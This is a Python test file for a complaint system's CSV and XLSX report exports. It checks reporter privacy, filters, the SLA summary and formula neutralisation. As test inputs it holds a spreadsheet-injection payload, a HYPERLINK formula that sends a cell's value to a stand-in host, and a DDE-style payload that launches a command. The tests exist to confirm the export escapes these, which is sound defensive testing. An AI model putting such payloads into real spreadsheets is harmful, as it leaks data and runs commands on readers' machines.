"""`/api/v1/reports.csv` and `.xlsx`: the rakor sheet opens in a real reader (openpyxl), has
the SLA summary, never the identity of rahasia or anonim reporters, and no live formulas."""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook

from core.reports.actors import Role
from core.reports.model import Privacy
from tests.api.helpers import DESCRIPTION, Api, Token, reason

HOSTILE = '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik di sini untuk detail")'


def csv_rows(text: str) -> list[dict[str, str]]:
    assert text.startswith("\ufeff")  # Excel reads the file as UTF-8
    return list(csv.DictReader(io.StringIO(text[1:])))


async def xlsx(api: Api, token: Token, **params: str) -> Any:
    response = await api.get("/reports.xlsx", token, **params)
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    assert response.headers["content-disposition"] == 'attachment; filename="rakor-2026-11-22.xlsx"'
    return load_workbook(io.BytesIO(response.content))


def sheet_rows(sheet: Any) -> list[dict[str, Any]]:
    rows = list(sheet.iter_rows(values_only=True))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


def people(api: Api, kominfo: Token) -> dict[Privacy, str]:
    """One verified report of each privacy level, each by a reporter named after it."""
    return {privacy: api.verified(kominfo, privacy=privacy, name=f"Pelapor {privacy.value}",
                                  chat_id=f"wa-{privacy.value}")
            for privacy in Privacy}


async def test_the_csv_has_one_row_per_report_and_identity_only_of_publik_for_coordinators(
        api: Api) -> None:
    kominfo = api.token()
    numbers = people(api, kominfo)
    response = await api.get("/reports.csv", kominfo)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    rows = {row["Nomor"]: row for row in csv_rows(response.text)}
    assert set(rows) == set(numbers.values())
    assert {p: rows[n]["Pelapor"] for p, n in numbers.items()} == {
        Privacy.PUBLIK: "Pelapor publik", Privacy.RAHASIA: "", Privacy.ANONIM: ""}
    for text in ("Pelapor rahasia", "Pelapor anonim", "wa-"):
        assert text not in response.text
    row = rows[numbers[Privacy.RAHASIA]]
    assert (row["Status"], row["OPD"], row["Kategori"], row["Privasi"]) == (
        "didisposisikan", "Dinas Pekerjaan Umum dan Penataan Ruang", "Jalan rusak", "rahasia")
    assert row["Masuk"] == "2026-11-22 10:00"  # WIB
    assert (row["Tahap"], row["Terlambat"], row["Isi laporan"]) == (
        "jawaban pertama", "tidak", DESCRIPTION)
    pupr = api.token("PUPR", Role.OFFICER, "pupr")
    officer = await api.get("/reports.csv", pupr)
    assert "Pelapor publik" not in officer.text  # the sheet is shown around: coordinators only
    assert len(csv_rows(officer.text)) == 3


async def test_the_export_takes_the_lists_filters_and_refuses_bad_ones(api: Api) -> None:
    kominfo = api.token()
    verified = api.verified(kominfo)
    new = api.file()
    api.file("sampah")
    only_new = csv_rows((await api.get("/reports.csv", kominfo, status="baru")).text)
    assert [row["Nomor"] for row in only_new] == [new]
    roads = csv_rows((await api.get("/reports.csv", kominfo, opd="pupr", sort="deadline")).text)
    assert [row["Nomor"] for row in roads] == [new, verified]
    dlh = api.token("DLH", Role.OFFICER, "dlh")
    for params, status, key in [({"status": "lama"}, 400, "api.bad_status"),
                                ({"cursor": "abc"}, 400, "api.unknown_parameter"),
                                ({"limit": "10"}, 400, "api.unknown_parameter"),
                                ({"since": "2026-13-01"}, 400, "api.bad_date")]:
        for suffix in ("csv", "xlsx"):
            bad = await api.get(f"/reports.{suffix}", kominfo, **params)
            assert (suffix, params, bad.status_code, reason(bad)) == (suffix, params, status, key)
    outside = await api.get("/reports.xlsx", dlh, opd="pupr")
    assert (outside.status_code, reason(outside)) == (403, "api.opd_outside")


async def test_the_xlsx_has_the_reports_and_the_sla_summary_per_opd(api: Api) -> None:
    kominfo = api.token()
    numbers = people(api, kominfo)
    api.file("sampah")
    api.container.clock.advance(hours=1)
    book = await xlsx(api, kominfo)
    assert book.sheetnames == ["Laporan", "Ringkasan SLA"]
    reports = sheet_rows(book["Laporan"])
    assert len(reports) == 4
    by_number = {row["Nomor"]: row for row in reports}
    assert by_number[numbers[Privacy.PUBLIK]]["Pelapor"] == "Pelapor publik"
    assert by_number[numbers[Privacy.RAHASIA]]["Pelapor"] is None
    assert by_number[numbers[Privacy.ANONIM]]["Pelapor"] is None
    assert by_number[numbers[Privacy.ANONIM]]["Masuk"].isoformat() == "2026-11-22T10:00:00"
    cells = [str(c) for row in book["Laporan"].iter_rows(values_only=True) for c in row]
    assert not any("Pelapor rahasia" in c or "Pelapor anonim" in c or "wa-" in c for c in cells)
    summary = list(book["Ringkasan SLA"].iter_rows(values_only=True))
    assert summary[0][:3] == ("OPD", "Nama OPD", "Diterima")
    figures = {row[0]: row for row in summary[1:] if row and row[1]}
    assert figures["pupr"][2:4] == (3, 3) and figures["dlh"][2:4] == (1, 0)
    assert figures[None][1] == "Seluruh kota" and figures[None][2] == 4
    assert str(summary[-1][0]).startswith("Periode 2026-10-23 11:00 – 2026-11-22 11:00 (WIB)")
    pupr = api.token("PUPR", Role.OFFICER, "pupr")
    own = await xlsx(api, pupr)
    assert len(sheet_rows(own["Laporan"])) == 3
    own_summary = [row for row in own["Ringkasan SLA"].iter_rows(values_only=True)][1:]
    assert [row[0] for row in own_summary if row and row[1]] == ["pupr"]
    assert not any(row[1] == "Seluruh kota" for row in own_summary if row)


async def test_formulas_and_unprintable_characters_are_neutralised(api: Api) -> None:
    kominfo = api.token()
    number = api.file(title=HOSTILE, description="+62 812 3456 7890 minta dihubungi\x0b segera "
                                                 "karena jalan rusak parah.")
    api.file(title="@SUM(1+1)*cmd|' /C calc'!A0", description="-" * 25)
    text = (await api.get("/reports.csv", kominfo)).text
    rows = {row["Nomor"]: row for row in csv_rows(text)}
    assert rows[number]["Judul"] == "'" + HOSTILE
    assert rows[number]["Isi laporan"].startswith("'+62 812")
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows.values()
               for value in row.values())
    book = await xlsx(api, kominfo)
    cells = [cell for row in book["Laporan"].iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    titles = {row["Nomor"]: row for row in sheet_rows(book["Laporan"])}
    assert titles[number]["Judul"] == HOSTILE  # kept as text, shown as typed, never run
    assert "\x0b" not in titles[number]["Isi laporan"]


async def test_exports_stream_every_page(api: Api) -> None:
    kominfo = api.token()
    filed = {api.file(description=f"{DESCRIPTION} Nomor rumah {n}.") for n in range(205)}
    rows = csv_rows((await api.get("/reports.csv", kominfo)).text)
    assert len(rows) == 205 and {row["Nomor"] for row in rows} == filed
    book = await xlsx(api, kominfo, sort="deadline")
    assert {row["Nomor"] for row in sheet_rows(book["Laporan"])} == filed
